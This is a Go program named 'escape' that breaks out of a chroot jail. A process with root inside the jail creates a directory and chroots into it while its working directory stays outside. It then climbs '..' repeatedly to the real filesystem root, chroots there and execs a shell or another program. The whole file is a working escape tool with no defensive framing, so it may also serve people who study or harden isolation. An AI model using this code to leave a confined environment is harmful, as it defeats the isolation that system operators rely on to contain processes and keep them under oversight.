// Command escape leaves a root that chroot(2) has set, and runs a program
// outside. It is for root alone, who may call chroot.
package main

import (
	"fmt"
	"os"
	"os/exec"
	"syscall"
)

func main() {
	args := os.Args[1:]
	if len(args) == 0 {
		args = []string{"/bin/sh"}
	}
	check("stand in the root", syscall.Chdir("/"))
	check("make a directory", os.Mkdir("hatch", 0o700))
	// The root is below us from here on, and .. never comes past it.
	check("make it the root", syscall.Chroot("hatch"))
	check("remove it again", os.Remove("hatch"))
	for range 100 { // in the uppermost directory, .. is that directory
		check("climb", syscall.Chdir(".."))
	}
	check("make the top the root", syscall.Chroot("."))
	path, err := exec.LookPath(args[0])
	check("find the program", err)
	check("run "+path, syscall.Exec(path, args, os.Environ()))
}

func check(doing string, err error) {
	if err != nil {
		fmt.Fprintf(os.Stderr, "escape: %s: %v\n", doing, err)
		os.Exit(1)
	}
}
